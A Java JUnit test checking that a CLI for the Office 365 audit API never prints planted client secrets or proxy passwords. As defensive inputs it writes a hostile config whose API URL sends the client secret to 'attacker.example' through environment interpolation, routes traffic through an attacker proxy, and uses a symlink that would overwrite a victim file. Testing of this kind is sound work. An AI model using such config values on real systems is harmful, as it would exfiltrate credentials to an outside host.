package io.github.auditlake.o365.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.auditlake.o365.api.ContentType;
import io.github.auditlake.o365.testkit.FakeManagementApi;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The CLI part of the secrets suite: recognisable secrets planted in every place the CLI takes one from (options,
 * environment, {@code --config} and the files it refers to, a proxy URL's user info) never appear on stdout or
 * stderr, including in the warnings and refusals about endpoints, proxy credentials and output files, with and without
 * {@code --verbose}.
 */
class CliSecretsLeakTest {
    static final String ENV_SECRET = "PLANTED-env-secret-7c2e";
    static final String OPTION_SECRET = "PLANTED-option-secret-91ab";
    static final String FILE_SECRET = "PLANTED-file-secret-3d4f";
    static final String PROXY_URL_PASSWORD = "PLANTED-proxy-url-pass-5e6a";
    static final String PROXY_ENV_PASSWORD = "PLANTED-proxy-env-pass-0b1c";
    static final String PROXY_FILE_PASSWORD = "PLANTED-proxy-file-pass-2a3b";
    static final List<String> PLANTED = List.of(
            ENV_SECRET, OPTION_SECRET, FILE_SECRET, PROXY_URL_PASSWORD, PROXY_ENV_PASSWORD, PROXY_FILE_PASSWORD);

    private final CliHarness cli = new CliHarness(CliHarness.tenant(1));
    private final List<CliHarness.Run> runs = new ArrayList<>();

    @AfterEach
    void stop() {
        cli.close();
    }

    private CliHarness.Run run(String... args) {
        CliHarness.Run r = cli.run(args);
        runs.add(r);
        return r;
    }

    @Test
    void plantedSecretsNeverAppearInTheCliOutputWarningsOrRefusals(@TempDir Path dir) throws Exception {
        FakeManagementApi fake = new FakeManagementApi(CliHarness.TENANT, cli.clock);
        fake.startSubscription(ContentType.GENERAL, null);
        Instant created = CliHarness.NOW.minus(Duration.ofHours(1));
        fake.addBlob(ContentType.GENERAL, created, created, 2);
        cli.apiFactory = s -> fake;
        cli.env.put("O365_CLIENT_SECRET", ENV_SECRET);
        cli.env.put("O365_HTTP_PROXY_USER", "proxy-user");
        cli.env.put("O365_HTTP_PROXY_PASSWORD", PROXY_ENV_PASSWORD);
        cli.env.remove("O365_API_URL");
        cli.env.remove("O365_LOGIN_URL");
        Path secrets = dir.resolve("secrets.properties");
        Files.writeString(secrets, "secret=" + FILE_SECRET + "\nproxy=" + PROXY_FILE_PASSWORD + "\n");
        Path hostile = dir.resolve("hostile.properties");
        Files.writeString(
                hostile,
                "o365.client.secret=${file:" + secrets + ":secret}\n"
                        + "o365.api.url=https://attacker.example/${env:O365_CLIENT_SECRET}\n"
                        + "o365.http.proxy.url=http://proxy.attacker.example:3128\n"
                        + "o365.http.proxy.user=u\n"
                        + "o365.http.proxy.password=${file:" + secrets + ":proxy}\n");
        Path proxyOnly = dir.resolve("proxy.properties");
        Files.writeString(
                proxyOnly,
                "o365.http.proxy.url=http://proxy.attacker.example:3128\no365.http.proxy.user=u\n"
                        + "o365.http.proxy.password=${file:" + secrets + ":proxy}\n");
        String proxyWithPassword = "http://alice:" + PROXY_URL_PASSWORD + "@proxy.corp.example:3128";

        // the refusals of a hostile --config (the API host, then the proxy), in commands and in doctor's report
        assertEquals(
                2,
                run("subscriptions", "list", "--config", hostile.toString(), "--verbose")
                        .code());
        assertEquals(
                2,
                run("subscriptions", "list", "--config", proxyOnly.toString(), "--verbose")
                        .code());
        assertEquals(
                1, run("doctor", "--config", hostile.toString(), "--verbose").code());
        // the same file allowed: the file's credentials are used, and --verbose describes them
        run("subscriptions", "list", "--config", hostile.toString(), "--allow-endpoint", "*", "--verbose");
        // the proxy-credential warning, with the secret on the command line too
        CliHarness.Run warned = run(
                "subscriptions", "list", "--verbose", "--client-secret", OPTION_SECRET, "--proxy", proxyWithPassword);
        assertTrue(warned.err().contains("warning: the proxy credentials in --proxy"), warned.toString());
        // usage errors after a proxy password: an unknown option, a bad --allow-endpoint
        assertEquals(
                2,
                run("subscriptions", "list", "--proxy", proxyWithPassword, "--nope", OPTION_SECRET)
                        .code());
        assertEquals(
                2,
                run("subscriptions", "list", "--config", proxyOnly.toString(), "--allow-endpoint", "http://x/")
                        .code());
        // the output file refused, with every secret in play
        Path victim = dir.resolve("victim");
        Files.writeString(victim, "x");
        Path link = dir.resolve("out.csv");
        Files.createSymbolicLink(link, victim);
        assertEquals(
                2,
                run(
                                "export",
                                "--content-type",
                                "general",
                                "--start",
                                "-2h",
                                "--format",
                                "csv",
                                "-o",
                                link.toString(),
                                "--proxy",
                                proxyWithPassword,
                                "--verbose")
                        .code());
        // a successful export to stdout
        assertEquals(
                0,
                run("export", "--content-type", "general", "--start", "-2h", "--format", "table")
                        .code());

        assertEquals(9, runs.size());
        for (CliHarness.Run r : runs) {
            for (String planted : PLANTED) {
                assertFalse(r.out().contains(planted), planted + " on stdout: " + r);
                assertFalse(r.err().contains(planted), planted + " on stderr: " + r);
            }
        }
    }
}
